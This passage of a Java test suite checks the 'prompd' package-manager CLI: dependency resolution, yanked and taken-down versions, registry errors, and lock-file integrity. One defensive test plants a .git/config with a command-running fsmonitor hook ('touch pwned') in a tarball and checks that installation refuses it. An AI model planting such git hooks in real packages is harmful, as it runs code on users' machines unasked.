    @Test
    void aPackageNamedTwoWaysIsAUsageErrorInAProjectAndTwoVersionsGlobally() throws IOException {
        String manifest = Files.readString(project.resolve("prompd.json"));

        CliRun twice = prompd("install", "@acme/util@^1.0.0", "@acme/base", "acme/util@1.1.0");

        assertEquals(2, twice.exitCode(), twice.err());
        assertTrue(twice.err().startsWith("error: @acme/util is named 2 ways, @acme/util@^1.0.0 and @acme/util@1.1.0,"
                + " and a project depends on one range of a package: name it once\n"), twice.err());
        assertEquals(manifest, Files.readString(project.resolve("prompd.json")));
        assertEquals(0, prompd("install", "@acme/util@^1.0.0", "acme/util@^1.0.0").exitCode(), "the same range twice");
        assertEquals(0, prompd("install", "@acme/base@^1", "@acme/base@^1.0.0").exitCode(), "two spellings of one");
        assertTrue(Files.readString(project.resolve("prompd.json")).contains("\"@acme/base\": \"^1\""),
                "written as first named");
        CliRun versions = prompd("install", "@acme/util@1.0.0", "@acme/util@v1.0.0");
        assertEquals(0, versions.exitCode(), versions.err());
        assertTrue(versions.out().contains("@acme/util 1.1.0 -> 1.0.0"), versions.out());
        assertEquals(0, prompd("install", "--global", "@acme/util@1.0.0", "@acme/util@1.1.0").exitCode());
        assertTrue(Files.isDirectory(home.resolve("packages/@acme/util@1.0.0")));
        assertTrue(Files.isDirectory(home.resolve("packages/@acme/util@1.1.0")));
    }

    @Test
    void frozenWithPackagesToAddIsAUsageErrorThatChangesNothing() throws IOException {
        assertEquals(0, prompd("install", "@acme/util").exitCode());
        String manifest = Files.readString(project.resolve("prompd.json"));

        CliRun run = prompd("install", "--frozen", "@acme/base");

        assertEquals(2, run.exitCode(), run.err());
        assertTrue(run.err().startsWith("error: --frozen forbids changing prompd.json, and naming packages adds them to"
                + " it: run 'prompd install --frozen' alone, or add the packages without --frozen"), run.err());
        assertEquals(manifest, Files.readString(project.resolve("prompd.json")));
        assertEquals(0, prompd("install", "--frozen").exitCode(), "alone it checks the lock, as CI wants");
        CliRun global = prompd("install", "--frozen", "--global", "@acme/base");
        assertEquals(2, global.exitCode(), global.err());
        assertTrue(global.err().startsWith("error: --frozen installs a project's prompd.lock as it is, and --global"
                + " installs without a project: give one or the other"), global.err());
        assertFalse(Files.exists(home.resolve("packages/@acme/base@1.0.0")), "nothing installed");
    }

    @Test
    void aPrompdJsonLinkToNoFileIsNamedAndTheProjectAboveIsLeftAlone() throws IOException {
        String manifest = Files.readString(project.resolve("prompd.json"));
        Path inner = Files.createDirectories(project.resolve("inner"));
        Path link = Files.createSymbolicLink(inner.resolve("prompd.json"), Path.of("missing.json"));
        Map<String, String> environment = Map.of("PROMPD_REGISTRY", server.url().toString());

        CliRun install = CliRun.in(inner, home, "", environment, "install", "@acme/util");

        assertEquals(3, install.exitCode(), install.err());
        assertEquals("error: " + link + " is a link to missing.json, which does not exist\n"
                + "hint: point the link at the project's prompd.json, or put the file in its place\n", install.err());
        assertEquals(manifest, Files.readString(project.resolve("prompd.json")), "the project above is not this one");
        assertFalse(Files.exists(project.resolve("prompd.lock")));
        assertEquals(3, CliRun.in(inner, home, "", environment, "list").exitCode());
    }

    @Test
    void aResolutionMovingOffALockedVersionTakenDownSaysWhy() throws IOException {
        assertEquals(0, prompd("install", "@acme/util@1.0.0").exitCode());
        editDependencies("\"@acme/util\": \"^1.0.0\"");
        registry.takeDown("@acme/util", "1.0.0", "leaked a token");
        assertEquals(0, prompd("uninstall", "--global", "@acme/util@1.0.0").exitCode());
        assertEquals(0, prompd("cache", "clean").exitCode());

        CliRun run = prompd("install", "@acme/base");

        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.out().contains("~ @acme/util 1.0.0 -> 1.1.0"), run.out());
        assertEquals("warning: @acme/util moved from the locked 1.0.0 to 1.1.0: its registry took 1.0.0 down: leaked a"
                + " token\n", run.err());
    }

    @Test
    void jsonWarningsLeaveOutTheReasonOfATakedownOrYankRecordedWithoutOneAsTheRegistrysBuildAndCheckDo()
            throws IOException {
        assertEquals(0, prompd("install", "@acme/base", "@acme/util").exitCode());
        registry.takeDown("@acme/util", "1.1.0", "").yank("@acme/base", "1.0.0", " ");

        CliRun kept = prompd("install", "@acme/greeter", "--json");

        assertEquals(0, kept.exitCode(), kept.err());
        assertEquals(Json.reader().readTree("""
                [{"kind": "yanked", "name": "@acme/base", "version": "1.0.0", "message": "@acme/base@1.0.0 is yanked\
                 (installed because the lock file pins it; no other version meets ^1.0.0, and none would with a wider\
                 range in prompd.json: the packages needing it ask for ^1.0.0; a newer version of those may ask for\
                 another ('prompd tree' shows them))"},
                 {"kind": "takenDown", "name": "@acme/util", "version": "1.1.0", "message": "@acme/util@1.1.0 is taken\
                 down (installed from the copy at hand because the lock file pins it; it can no longer be downloaded;\
                 no other version meets ^1.1.0 and ^1.0.0: widen its range in prompd.json, or choose another version\
                 ('prompd info @acme/util' lists them))"}]"""), Json.reader().readTree(kept.out()).get("warnings"));
        JsonNode info = Json.reader().readTree(prompd("info", "@acme/util@^1.0.0", "--json").out());
        assertEquals("{\"1.1.0\":\"\"}", info.get("takenDown").toString(), "a version to its reason, as index.json has it");
        assertEquals("{\"1.1.0\":\"\"}", info.get("takenDownInRange").toString());
        home = work.resolve("other-home");
        CliRun uninstalled = prompd("uninstall", "@acme/base", "--json");
        assertEquals(0, uninstalled.exitCode(), uninstalled.err());
        assertEquals(Json.reader().readTree("""
                [{"kind": "leftOut", "packages": [{"name": "@acme/util", "version": "1.1.0"}], "message": "not\
                 installed, as taken down with no copy at hand, though prompd.lock still locks it: @acme/util@1.1.0\
                 (no other version meets ^1.1.0 and ^1.0.0: widen its range in prompd.json, or choose another version\
                 ('prompd info @acme/util' lists them))"},
                 {"kind": "yanked", "name": "@acme/base", "version": "1.0.0", "message": "@acme/base@1.0.0 is yanked\
                 (installed because the lock file pins it; no other version meets ^1.0.0, which the packages needing\
                 it ask for; a newer version of those may ask for another ('prompd tree' shows them))"}]"""),
                Json.reader().readTree(uninstalled.out()).get("warnings"));
        registry.publish("@acme/util", "1.2.0");
        CliRun moved = prompd("update", "--json");
        assertEquals(0, moved.exitCode(), moved.err());
        assertEquals(Json.reader().readTree("""
                {"kind": "movedOffTakenDown", "name": "@acme/util", "from": "1.1.0", "to": "1.2.0", "message":\
                 "@acme/util moved from the locked 1.1.0 to 1.2.0: its registry took 1.1.0 down"}"""),
                Json.reader().readTree(moved.out()).get("warnings").get(1), "after the yank of @acme/base");
    }

    @Test
    void aDependencyNamedTwiceToUninstallIsRemovedAndSaidOnce() throws IOException {
        assertEquals(0, prompd("install", "@acme/util", "@acme/base").exitCode());

        CliRun run = prompd("rm", "@acme/util", "acme/util");

        assertEquals(0, run.exitCode(), run.err());
        assertEquals(1, run.out().split("removed @acme/util from prompd.json\n", -1).length - 1, run.out());
        assertFalse(Files.readString(project.resolve("prompd.json")).contains("@acme/util"));
    }

    @Test
    void aConflictExitsWithFourAndExplains() throws IOException {
        registry.publish("@acme/strict", "1.0.0", "@acme/util", "1.0.0");
        CliRun run = prompd("install", "@acme/strict", "@acme/util@^1.1.0");
        assertEquals(4, run.exitCode(), run.err());
        assertTrue(run.err().contains("version solving failed"), run.err());
        assertTrue(run.err().contains("hint: "), run.err());
    }

    @Test
    void aConflictNamesEachVersionWithTheRangeItDependsOn() throws IOException {
        registry.publish("@acme/util", "2.0.0")
                .publish("@acme/pair", "1.0.0", "@acme/util", "~1.0.0")
                .publish("@acme/pair", "1.1.0", "@acme/util", "^2.0.0");

        CliRun run = prompd("install", "@acme/pair@^1", "@acme/util@^1.1.0");

        assertEquals(4, run.exitCode(), run.err());
        assertTrue(run.err().startsWith("error: Because @acme/pair 1.1.0 depends on @acme/util ^2.0.0 and @acme/pair 1.0.0"
                + " depends on @acme/util ~1.0.0, every version of @acme/pair requires @acme/util ~1.0.0 || ^2.0.0.\n"),
                run.err());
    }

    @Test
    void aMissingPackageExitsWithThreeAndSuggests() {
        CliRun run = prompd("install", "@acme/gretter");
        assertEquals(3, run.exitCode(), run.err());
        assertEquals("error: no package @acme/gretter in registry " + server.url() + "\nhint: if @acme's packages are in"
                + " another registry, route @acme to it with 'prompd config set scopes.@acme NAME' or 'prompd registry add"
                + " NAME URL --scope @acme'; otherwise, did you mean @acme/greeter?\n",
                run.err().replace(System.lineSeparator(), "\n"));
    }

    @Test
    void aMissingDependencyNamesTheRegistryAskedAndHowToRouteItsScope() throws IOException {
        registry.publish("@data/secret", "1.0.0");
        assertEquals(0, CliRun.in(project, home, "registry", "add", "main", server.url().toString(), "--default").exitCode());
        editDependencies("\"@company/secret\": \"^1.0.0\"");

        CliRun run = CliRun.in(project, home, "install");

        assertEquals(3, run.exitCode(), run.err());
        assertEquals("error: Because your project depends on @company/secret ^1.0.0 and no package @company/secret exists"
                + " in registry main (" + server.url() + "), version solving failed.\n"
                + "hint: check the names and ranges above against the registry; a range may ask for a version that was"
                + " never published, or that has been yanked or taken down; if @company's packages are in another"
                + " registry, route @company to it with 'prompd config set scopes.@company NAME' or 'prompd registry add"
                + " NAME URL --scope @company'\n", run.err().replace(System.lineSeparator(), "\n"),
                "@data/secret is another owner's package, not offered for @company/secret");

        assertEquals(0, CliRun.in(project, home, "registry", "add", "work", server.url().toString(), "--scope",
                "@company").exitCode());
        CliRun routed = CliRun.in(project, home, "install");
        assertEquals(3, routed.exitCode(), routed.err());
        assertTrue(routed.err().contains(" exists in registry work (" + server.url() + "), "), routed.err());
        assertFalse(routed.err().contains("route @company"), "a scope routed on purpose is not advised to be: "
                + routed.err());
    }

    @Test
    void aMissingPackageNamesTheRegistryAsConfigured() {
        assertEquals(0, CliRun.in(project, home, "registry", "add", "main", server.url().toString(), "--default").exitCode());

        CliRun run = CliRun.in(project, home, "info", "@data/csv-toolkit");

        assertEquals(3, run.exitCode(), run.err());
        assertTrue(run.err().startsWith("error: no package @data/csv-toolkit in registry main (" + server.url() + ")\n"),
                run.err());
    }

    @Test
    void aRefusalSaysWhetherStoredCredentialsWereRefused() {
        assertEquals(0, CliRun.in(project, home, "registry", "add", "main", server.url().toString(), "--default").exitCode());
        server.refuseAccess(401);

        CliRun without = CliRun.in(project, home, "info", "@acme/base");
        assertEquals(5, without.exitCode(), without.err());
        assertTrue(without.err().startsWith("error: registry main (" + server.url() + ") refused access (HTTP 401): "),
                without.err());
        assertTrue(without.err().contains("\nhint: it wants credentials and none are stored for it: log in with"
                + " 'prompd login --registry main'\n"), without.err());

        assertEquals(0, CliRun.in(project, home, "t0ken\n", Map.of(), "login").exitCode());
        CliRun refused = CliRun.in(project, home, "info", "@acme/base");
        assertEquals(5, refused.exitCode(), refused.err());
        assertTrue(refused.err().contains("\nhint: it refused the credentials stored for it, which may have expired or be"
                + " wrong: log in again with 'prompd login --registry main'\n"), refused.err());
    }

    @Test
    void aPrivateRegistrysDocumentsTarballsAndPackagesAreKeptFromOtherUsers() throws IOException {
        assertEquals(0, CliRun.in(project, home, "registry", "add", "main", server.url().toString(), "--default").exitCode());
        assertEquals(0, CliRun.in(project, home, "t0ken\n", Map.of(), "login").exitCode());
        // as an earlier prompd left it, open to every user of the machine
        Files.createDirectories(home.resolve("packages"), PosixFilePermissions.asFileAttribute(
                PosixFilePermissions.fromString("rwxr-xr-x")));

        CliRun run = CliRun.in(project, home, "install", "@acme/greeter");

        assertEquals(0, run.exitCode(), run.err());
        for (String folder : List.of("packages", "cache/tarballs", "cache/http")) {
            assertEquals("rwx------", PosixFilePermissions.toString(Files.getPosixFilePermissions(home.resolve(folder))),
                    folder);
        }
    }

    @Test
    void resolutionLowestChoosesTheOldestAllowedVersions() {
        CliRun run = prompd("install", "@acme/util@^1.0.0", "--resolution", "lowest");
        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.out().contains("+ @acme/util@1.0.0"), run.out());
        assertEquals(2, prompd("install", "--resolution", "newest").exitCode());
    }

    @Test
    void aMalformedSpecIsAUsageErrorThatSaysWhatIsWrong() {
        CliRun range = prompd("install", "@acme/base", "@acme/util@>>1");
        assertEquals(2, range.exitCode(), range.err());
        assertTrue(range.err().startsWith("error: invalid value for PACKAGE: '@acme/util@>>1'"), range.err());
        assertTrue(range.err().endsWith("\nhint: see 'prompd install --help'\n"), "no whole help to hide it: " + range.err());

        CliRun name = prompd("install", "@acme");
        assertEquals(2, name.exitCode(), name.err());
        assertTrue(name.err().contains("a scoped name needs a '/' between scope and name"), name.err());

        CliRun versioned = prompd("update", "acme/util@1");
        assertEquals(2, versioned.exitCode(), versioned.err());
        assertTrue(versioned.err().startsWith("error: invalid value for NAME: 'acme/util@1': give the package name alone"),
                versioned.err());
        assertFalse(Files.exists(project.resolve("prompd.lock")), "nothing was installed");
    }

    @Test
    void offlineWithoutTheCacheExitsWithFiveListingWhatIsMissing() throws IOException {
        assertEquals(0, prompd("install", "@acme/greeter").exitCode());
        home = work.resolve("empty-home");
        CliRun run = prompd("--offline", "install");
        assertEquals(5, run.exitCode(), run.err());
        assertTrue(run.err().contains("@acme/base@1.0.0, @acme/greeter@1.0.0, @acme/util@1.1.0"), run.err());
    }

    @Test
    void aTamperedTarballExitsWithSix() throws IOException {
        registry.tamper("@acme/util", "1.1.0");
        CliRun run = prompd("install", "@acme/util");
        assertEquals(6, run.exitCode(), run.err());
        assertFalse(Files.exists(home.resolve("packages/@acme/util@1.1.0")));
        assertFalse(Files.readString(project.resolve("prompd.json")).contains("util"));
    }

    @Test
    void aGitFolderInATarballWhoseIntegrityMatchesIsRefusedWithSixNamingThePackageAndNothingIsInstalledOrCached()
            throws IOException {
        registry.addToTarball("@acme/util", "1.1.0", "package/.git/config",
                "[core]\n\tfsmonitor = \"touch pwned; false\"\n".getBytes(StandardCharsets.UTF_8));

        CliRun run = prompd("install", "@acme/util");

        assertEquals(6, run.exitCode(), run.err());
        assertEquals("error: the tarball of @acme/util@1.1.0 was refused, and nothing of it was installed: the archive"
                + " entry 'package/.git/config' is refused: pack never packs .git/, .prompd/, node_modules/\n"
                + "hint: prompd pack never writes such entries, so the archive was damaged or tampered with; tell the"
                + " registry's maintainers\n", run.err().replace(System.lineSeparator(), "\n"));
        try (Stream<Path> store = Files.list(home.resolve("packages/@acme"))) {
            assertEquals(List.of(), store.toList(), "neither the version nor what its unpack began is left");
        }
        assertNoTarballCached();
        assertFalse(Files.readString(project.resolve("prompd.json")).contains("util"));
    }

    @Test
    void aTarballBeyondTheArchiveLimitsIsRefusedWithSixAsPackNeverWritesItAndIsNotCached() throws IOException {
        registry.addToTarball("@acme/util", "1.1.0", "package/prompts/big.prmd",
                new byte[(int) ArchiveLimits.DEFAULT.maxFileBytes() + 1]);

        CliRun run = prompd("install", "@acme/util");

        assertEquals(6, run.exitCode(), run.err());
        assertNoTarballCached();
        assertEquals("error: the tarball of @acme/util@1.1.0 was refused, and nothing of it was installed: the archive"
                + " is refused: package/prompts/big.prmd has 5242881 bytes, more than the limit of 5242880 bytes per"
                + " file\nhint: prompd pack never writes an archive beyond these limits, nor a registry's build, so"
                + " it was damaged or tampered with, or made by a prompd with larger limits than this one; tell the"
                + " registry's maintainers\n", run.err().replace(System.lineSeparator(), "\n"));
    }

    private void assertNoTarballCached() throws IOException {
        try (Stream<Path> cache = Files.walk(home.resolve("cache/tarballs"))) {
            assertEquals(List.of(), cache.filter(Files::isRegularFile).toList(),
                    "a refused tarball is not kept for 'cache verify' to pass and the next run to refuse again");
        }
    }

    /** Replaces an integrity in prompd.lock with another tarball's, as a hand edit or a merge may; returns that one. */
    private String editIntegrity(String recorded) throws IOException {
        String edited = Integrity.of("another tarball".getBytes(StandardCharsets.UTF_8)).toString();
        Path lock = project.resolve("prompd.lock");
        Files.writeString(lock, Files.readString(lock).replace(recorded, edited));
        return edited;
    }

    @Test
    void aLockWhoseIntegrityTheRegistryDoesNotRecordIsToldApartFromADamagedDownload() throws IOException {
        assertEquals(0, prompd("install", "@acme/util").exitCode());
        String recorded = Integrity.of(Files.readAllBytes(registry.tarball("@acme/util", "1.1.0"))).toString();
        String edited = editIntegrity(recorded);
        assertEquals(0, prompd("uninstall", "--global", "@acme/util@1.1.0").exitCode());

        CliRun run = prompd("install");

        assertEquals(6, run.exitCode(), run.err());
        assertEquals("error: integrity check failed for @acme/util@1.1.0: prompd.lock records " + edited
                + ", and the registry's index.json " + recorded + "\n"
                + "hint: if prompd.lock was edited (by hand or by a merge), delete the entry of @acme/util from it and"
                + " run 'prompd install' to lock the registry's; if not, the registry changed a published version: tell"
                + " its maintainers\n", run.err());
        assertFalse(Files.exists(home.resolve("packages/@acme/util@1.1.0")));
    }

    @Test
    void aLockWhoseResolvedUrlNamesAnotherTarballOfTheRegistryIsBlamedNotTheRegistry() throws IOException {
        assertEquals(0, prompd("install", "@acme/util").exitCode());
        Path lock = project.resolve("prompd.lock");
        Files.writeString(lock, Files.readString(lock).replace("util-1.1.0.tgz", "util-1.0.0.tgz"));
        Folders.deleteRecursively(home);

        CliRun run = prompd("install", "--frozen");

        assertEquals(6, run.exitCode(), run.err());
        assertEquals("error: integrity check failed for @acme/util@1.1.0: prompd.lock's resolved URL " + server.url()
                + "packages/@acme/util/-/util-1.0.0.tgz is not the registry's tarball of that version, " + server.url()
                + "packages/@acme/util/-/util-1.1.0.tgz\n"
                + "hint: if prompd.lock was edited (by hand or by a merge), delete the entry of @acme/util from it and"
                + " run 'prompd install' to lock the registry's\n", run.err());
    }

    /** The hint of a store whose copy of @acme/util@1.1.0 came from other bytes than prompd.lock pins. */
    private static final String OTHER_BYTES_HINT = "hint: if prompd.lock was edited (by hand or by a merge), delete the"
            + " entry of @acme/util from it and run 'prompd install' to lock the registry's; if another registry"
            + " publishes the same version, the store holds one copy of each version: 'prompd uninstall --global"
            + " @acme/util@1.1.0', then 'prompd install' again\n";

    @Test
    void aLockWhoseIntegrityWasEditedFailsWhereTheVersionIsInstalledAsOnACleanMachine() throws IOException {
        assertEquals(0, prompd("install", "@acme/util").exitCode());
        String recorded = Integrity.of(Files.readAllBytes(registry.tarball("@acme/util", "1.1.0"))).toString();
        String edited = editIntegrity(recorded);

        String error = "error: the store's copy of @acme/util@1.1.0 (" + home.resolve("packages/@acme/util@1.1.0")
                + ") came from other bytes (" + recorded + ") than prompd.lock pins (" + edited + ")\n";
        for (List<String> command : List.of(List.of("install", "--frozen"), List.of("install"), List.of("list"),
                List.of("tree"))) {
            CliRun run = prompd(command.toArray(String[]::new));
            assertEquals(6, run.exitCode(), command + ": " + run.err());
            assertTrue(run.err().endsWith(error + OTHER_BYTES_HINT), command + ": " + run.err());
        }
        CliRun listJson = prompd("list", "--json");
        CliRun treeJson = prompd("tree", "--json");
        assertEquals(6, listJson.exitCode(), listJson.err());
        assertTrue(Json.reader().readTree(listJson.out()).get(0).get("otherBytes").asBoolean(), listJson.out());
        assertEquals(6, treeJson.exitCode(), treeJson.err());
        assertTrue(Json.reader().readTree(treeJson.out()).at("/dependencies/0/otherBytes").asBoolean(), treeJson.out());
    }

    @Test
    void aLockEditedKeepingItsSizeAndTimeIsAuditedAgainByAWarmInstall() throws IOException {
        assertEquals(0, prompd("install", "@acme/util").exitCode());
        assertEquals(0, prompd("install", "--frozen").exitCode(), "audited, and noted so");
        Path lock = project.resolve("prompd.lock");
        FileTime written = Files.getLastModifiedTime(lock);
        long size = Files.size(lock);
        editIntegrity(Integrity.of(Files.readAllBytes(registry.tarball("@acme/util", "1.1.0"))).toString());
        Files.setLastModifiedTime(lock, written);
        assertEquals(size, Files.size(lock), "an integrity is as long as another");

        CliRun warm = prompd("install", "--frozen");

        assertEquals(6, warm.exitCode(), "as on a coarse clock, or after touch -r: " + warm.err());
        assertTrue(warm.err().endsWith(OTHER_BYTES_HINT), warm.err());
    }

    @Test
    void aVersionAnotherRegistryPutInTheStoreIsNotTakenForTheOneTheLockPins() throws IOException {
        TestRegistry other = new TestRegistry(work.resolve("other")).publish("@acme/util", "1.1.0");
        other.addToTarball("@acme/util", "1.1.0", "package/NOTICE", "from the other registry\n".getBytes(StandardCharsets.UTF_8));
        Path elsewhere = Files.createDirectories(work.resolve("elsewhere"));
        Files.copy(project.resolve("prompd.json"), elsewhere.resolve("prompd.json"));
        try (RegistryServer otherServer = RegistryServer.serving(other.root())) {
            CliRun otherProject = CliRun.in(elsewhere, home, "", Map.of("PROMPD_REGISTRY", otherServer.url().toString()),
                    "install", "@acme/util@1.1.0");
            assertEquals(0, otherProject.exitCode(), otherProject.err());

            CliRun resolving = prompd("install", "@acme/util@1.1.0");

            String recorded = Integrity.of(Files.readAllBytes(other.tarball("@acme/util", "1.1.0"))).toString();
            String listed = Integrity.of(Files.readAllBytes(registry.tarball("@acme/util", "1.1.0"))).toString();
            String fromTheRegistry = "error: the store's copy of @acme/util@1.1.0 ("
                    + home.resolve("packages/@acme/util@1.1.0") + ") came from other bytes (" + recorded + ") than the"
                    + " index.json of registry " + server.url() + " lists (" + listed + ")\nhint: the store holds one"
                    + " copy of each version, and another registry publishing other bytes under the same version may"
                    + " have put it there: 'prompd uninstall --global @acme/util@1.1.0', then '";
            assertEquals(6, resolving.exitCode(), resolving.err());
            assertEquals(fromTheRegistry + "prompd install' again\n", resolving.err(),
                    "before the lock is written, which is not blamed: " + resolving.err());
            assertFalse(Files.exists(project.resolve("prompd.lock")));
            CliRun global = prompd("install", "--global", "@acme/util@1.1.0");
            assertEquals(6, global.exitCode(), "as the project's install fails: " + global.err());
            assertEquals(fromTheRegistry + "prompd install --global @acme/util@1.1.0' again\n", global.err());

            // once this project's lock was found agreeing, the other registry's bytes replace the version
            assertEquals(0, prompd("uninstall", "--global", "@acme/util@1.1.0").exitCode());
            assertEquals(0, prompd("install", "@acme/util@1.1.0").exitCode());
            assertEquals(0, prompd("install").exitCode());
            assertEquals(0, CliRun.in(elsewhere, home, "", Map.of("PROMPD_REGISTRY", otherServer.url().toString()),
                    "uninstall", "--global", "@acme/util@1.1.0").exitCode());
            assertEquals(0, CliRun.in(elsewhere, home, "", Map.of("PROMPD_REGISTRY", otherServer.url().toString()),
                    "install").exitCode());

            CliRun warm = prompd("install", "--frozen");

            assertEquals(6, warm.exitCode(), "a changed store is compared again: " + warm.err());
            assertTrue(warm.err().endsWith(OTHER_BYTES_HINT), warm.err());
        }
    }

    @Test
    void aWebPageInPlaceOfATarballExitsWithFiveAsOneInADocumentsPlaceDoes() throws IOException {
        Files.writeString(registry.tarball("@acme/util", "1.1.0"), "<!DOCTYPE html><title>502 Bad Gateway</title>");

        CliRun run = prompd("install", "@acme/util");

        assertEquals(5, run.exitCode(), run.err());
        assertEquals("error: got a web page instead of a gzip tarball from " + server.url()
                + "packages/@acme/util/-/util-1.1.0.tgz\nhint: nothing of it was kept: the registry's host, or a proxy or"
                + " CDN in front of it, answered with an error or login page; try again later, and tell the registry's"
                + " maintainers if it persists\n", run.err().replace(System.lineSeparator(), "\n"));
        assertFalse(Files.exists(home.resolve("packages/@acme/util@1.1.0")));
    }

    @Test
    void aLockedYankedVersionInstallsWithAWarningOnStderr() throws IOException {
        assertEquals(0, prompd("install", "@acme/util").exitCode());
        registry.yank("@acme/util", "1.1.0", "typo in the prompt");
        home = work.resolve("other-home");

        CliRun run = prompd("install");

        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.err().startsWith("warning: @acme/util@1.1.0 is yanked: typo in the prompt"), run.err());
        assertFalse(run.out().contains("yanked"), run.out());
    }

    @Test
    void installJsonGivesEachWarningAsAnObjectOfItsKindItsFieldsAndTheSentenceOfTheText() throws IOException {
        assertEquals(0, prompd("install", "@acme/base").exitCode());
        registry.yank("@acme/util", "1.1.0", "typo in the prompt").deprecate("@acme/base", "1.0.0", "use @acme/core");
        home = work.resolve("other-home");

        CliRun run = prompd("install", "--json");

        assertEquals(0, run.exitCode(), run.err());
        JsonNode warnings = Json.reader().readTree(run.out()).get("warnings");
        assertEquals(Json.reader().readTree("""
                [{"kind": "deprecated", "name": "@acme/base", "version": "1.0.0", "reason": "use @acme/core",
                  "message": "@acme/base@1.0.0 is deprecated: use @acme/core"},
                 {"kind": "yanked", "name": "@acme/util", "version": "1.1.0", "reason": "typo in the prompt",
                  "message": "@acme/util@1.1.0 is yanked: typo in the prompt (installed because the lock file pins it;\
                 'prompd update @acme/util' moves off it)"}]"""), warnings);
        assertEquals(run.err(), "warning: " + warnings.get(0).get("message").asText() + "\nwarning: "
                + warnings.get(1).get("message").asText() + "\n", "the sentences of the text, on stderr as before");
    }

    @Test
    void updateAndInstallJsonNameTheKindOfARangeSetAsideOrKept() throws IOException {
        assertEquals(0, prompd("install", "@acme/base").exitCode());
        registry.publish("@acme/util", "2.0.0");

        JsonNode kept = Json.reader().readTree(prompd("update", "@acme/util", "--latest", "--json").out());
        JsonNode setAside = Json.reader().readTree(prompd("install", "@acme/util", "--json").out());

        assertEquals(Json.reader().readTree("""
                [{"kind": "latestNotDirect", "name": "@acme/util", "message": "@acme/util is not in prompd.json, so\
                 --latest has no range of it to move: it was updated within the ranges of the packages that need it"}]\
                """), kept.get("warnings"));
        assertEquals(Json.reader().readTree("""
                [{"kind": "latestSetAside", "name": "@acme/util", "fromLatest": "^2.0.0", "installed": "1.1.0",
                  "message": "@acme/util ^2.0.0, from its latest version, cannot be installed in this project, so\
                 1.1.0, the highest version that can, is installed"}]"""), setAside.get("warnings"));
    }

    @Test
    void installJsonNamesTheKindOfALatestVersionPassedOverWithinItsRange() throws IOException {
        registry.publish("@acme/base", "1.1.0", "@acme/util", "^1.1.0").tag("@acme/util", "latest", "1.0.0");
        assertEquals(0, prompd("install", "@acme/base").exitCode());

        CliRun run = prompd("install", "@acme/util", "--json");

        assertEquals(0, run.exitCode(), run.err());
        assertEquals(Json.reader().readTree("""
                [{"kind": "latestPassedOver", "name": "@acme/util", "latest": "1.0.0", "installed": "1.1.0",
                  "message": "@acme/util's latest version, 1.0.0, cannot be installed in this project, so 1.1.0, the\
                 highest version that can, is installed"}]"""), Json.reader().readTree(run.out()).get("warnings"),
                "@acme/base 1.1.0 needs ^1.1.0");
    }

    @Test
    void aGlobalInstallNeedsNoProject() throws IOException {
        Files.delete(project.resolve("prompd.json"));
        CliRun run = prompd("install", "--global", "@acme/base");
        assertEquals(0, run.exitCode(), run.err());
        assertEquals("2 packages: 2 downloaded, 0 from the cache, 0 already installed\n  + @acme/base@1.0.0\n"
                + "  + @acme/util@1.1.0\n", run.out(), "what went into the store, and no word of a lock there is none of");
        assertFalse(Files.exists(project.resolve("prompd.lock")));
        CliRun list = prompd("list", "--installed");
        assertEquals("@acme/base@1.0.0\n@acme/util@1.1.0\n", list.out());
    }

    @Test
    void aGlobalUninstallRemovesVersionsFromTheStore() throws IOException {
        Files.delete(project.resolve("prompd.json"));
        assertEquals(0, prompd("install", "--global", "@acme/greeter").exitCode());
        assertEquals(0, prompd("install", "--global", "@acme/util@1.0.0").exitCode());
        assertEquals("@acme/base@1.0.0\n@acme/greeter@1.0.0\n@acme/util@1.0.0\n@acme/util@1.1.0\n",
                prompd("list", "--installed").out());

        CliRun missing = prompd("uninstall", "--global", "@acme/util", "@acme/base@^2", "@acme/nothere");
        assertEquals(3, missing.exitCode());
        assertEquals("error: not in the store: @acme/base@^2 and @acme/nothere; nothing was removed\n"
                + "hint: 'prompd list --installed' lists the store\n", missing.err());
        CliRun tag = prompd("uninstall", "-g", "@acme/util@latest");
        assertEquals(2, tag.exitCode());
        assertTrue(tag.err().startsWith("error: the store knows versions, not dist-tags"), tag.err());
        assertEquals(4, prompd("list", "--installed").out().lines().count(), "a refused removal removes nothing");

        CliRun some = prompd("uninstall", "-g", "@acme/util@^1.1", "acme/greeter");
        assertEquals(0, some.exitCode(), some.err());
        assertEquals("removed @acme/greeter@1.0.0\nremoved @acme/util@1.1.0\n", some.out());
        assertEquals("@acme/base@1.0.0\n@acme/util@1.0.0\n", prompd("list", "--installed").out());

        CliRun all = prompd("rm", "-g", "@acme/util", "@acme/base", "--json");
        assertEquals(0, all.exitCode(), all.err());
        JsonNode removed = Json.reader().readTree(all.out()).get("removed");
        assertEquals("1.0.0", removed.get("@acme/util").get(0).asText());
        assertEquals("", prompd("list", "--installed").out());
    }

    @Test
    void aProjectWhoseLockedVersionLeftTheStoreInstallsItAgain() throws IOException {
        assertEquals(0, prompd("install", "@acme/base").exitCode());
        assertEquals(0, prompd("uninstall", "-g", "@acme/util").exitCode());

        CliRun again = prompd("install");

        assertEquals(0, again.exitCode(), again.err());
        assertTrue(again.out().startsWith("2 packages: 0 downloaded, 1 from the cache, 1 already installed"), again.out());
        assertEquals("@acme/base@1.0.0\n@acme/util@1.1.0\n", prompd("list", "--installed").out());
    }

    @Test
    void installOutsideAProjectSaysWhatToDo() throws IOException {
        Files.delete(project.resolve("prompd.json"));
        CliRun run = prompd("install");
        assertEquals(3, run.exitCode());
        assertTrue(run.err().startsWith("error: no prompd.json in " + project + " or any folder above it\n"), run.err());
        assertTrue(run.err().contains("--global"), run.err());
        CliRun list = prompd("list");
        assertEquals(3, list.exitCode());
        assertTrue(list.err().contains("'prompd list --installed' lists it"), "the store, for a command with no --global: "
                + list.err());
    }

    @Test
    void aCommandRunInAFolderInsideTheProjectWorksOnTheProject() throws IOException {
        Path inside = Files.createDirectories(project.resolve("prompts/drafts"));
        Map<String, String> environment = Map.of("PROMPD_REGISTRY", server.url().toString());

        CliRun install = CliRun.in(inside, home, "", environment, "install", "@acme/base");
        assertEquals(0, install.exitCode(), install.err());

        assertTrue(Files.readString(project.resolve("prompd.json")).contains("\"@acme/base\": \"^1.0.0\""));
        assertTrue(Files.isRegularFile(project.resolve("prompd.lock")));
        assertFalse(Files.exists(inside.resolve("prompd.json")));
        assertFalse(Files.exists(inside.resolve("prompd.lock")));
        assertEquals("@acme/base@1.0.0\n@acme/util@1.1.0  (transitive)\n",
                CliRun.in(inside, home, "", environment, "list").out());
    }

    @Test
